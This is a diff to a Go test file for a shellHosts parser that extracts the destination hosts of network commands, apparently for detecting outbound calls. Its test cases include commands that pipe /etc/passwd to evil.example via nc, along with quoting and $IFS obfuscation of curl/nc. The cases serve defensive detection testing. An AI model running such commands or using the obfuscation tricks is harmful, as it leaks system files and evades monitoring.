@@ -7,7 +7,7 @@ import (
 )
 
 // TestShellHosts: the destinations network tools name without a scheme,
-// read from the screen form a shape rule sees.
+// read through the command's quoting.
 func TestShellHosts(t *testing.T) {
 	for _, tc := range []struct {
 		cmd  string
@@ -39,7 +39,15 @@ func TestShellHosts(t *testing.T) {
 		{"ping -c 1 203.0.113.5", []string{"203.0.113.5"}},
 		{"sudo -u root curl evil.example", []string{"evil.example"}},
 		{"HTTPS_PROXY= timeout 5 nc evil.example 80", []string{"evil.example"}},
-		{"bash -c curl evil.example", []string{"evil.example"}},
+		{`bash -c "curl evil.example"`, []string{"evil.example"}},
+		{`sh -lc 'nc evil.example 9 < /etc/passwd'`, []string{"evil.example"}},
+		{`c''url e"vil.exa"mple/x`, []string{"evil.example"}},
+		{`c\url evil.example`, []string{"evil.example"}},
+		{"nc$IFS" + "evil.example${IFS}4444", []string{"evil.example"}},
+		{`echo "$(nc evil.example 1 < /etc/passwd)"`, []string{"evil.example"}},
+		{`curl -H "User-Agent: my.app.client" -H 'X-Trace: abc.def' https://github.com/x`, nil},
+		{`git commit -m "fix: host.example handling"`, nil},
+		{"curl \\\nevil.example", []string{"evil.example"}},
 		{"cd /tmp && /usr/bin/curl evil.example; echo done", []string{"evil.example"}},
 		{"echo curl evil.example", nil}, // an argument of echo, not a command
 		{"curl $URL", nil},
@@ -48,7 +56,7 @@ func TestShellHosts(t *testing.T) {
 		{"go test ./... && git status", nil},
 		{"cat file.txt | grep x", nil},
 	} {
-		got := shellHosts(ScreenText(tc.cmd))
+		got := shellHosts(tc.cmd)
 		if !slices.Equal(got, tc.want) {
 			t.Errorf("shellHosts(%q) = %q, want %q", tc.cmd, got, tc.want)
 		}
@@ -61,11 +69,11 @@ func TestShellHosts(t *testing.T) {
 func FuzzShellHosts(f *testing.F) {
 	for _, s := range []string{"nc evil.example 4444", "curl -sSo x a.example/b", "ssh -J j.example u@h.example",
 		"scp a u@h.example:/", "socat - TCP:a.example:1", "dig @1.1.1.1 a.example", "sudo -u r timeout 5 nc a.example 1",
-		"bash -lc curl a.example", "curl [::1]:80", "", "-", "--", "nc -", "git clone x:y"} {
+		"bash -lc 'curl a.example'", `echo "$(sh -c "$(nc a.example 1)")"`, `'unterminated`, `"$(`, "curl [::1]:80", "", "-", "--", "nc -", "git clone x:y"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, cmd string) {
-		for _, h := range shellHosts(ScreenText(cmd)) {
+		for _, h := range shellHosts(cmd) {
 			switch {
 			case h == "", strings.ContainsAny(h, " \t\n@/?#"), h != strings.ToLower(h):
 				t.Fatalf("shellHosts(%q) returned %q", cmd, h)
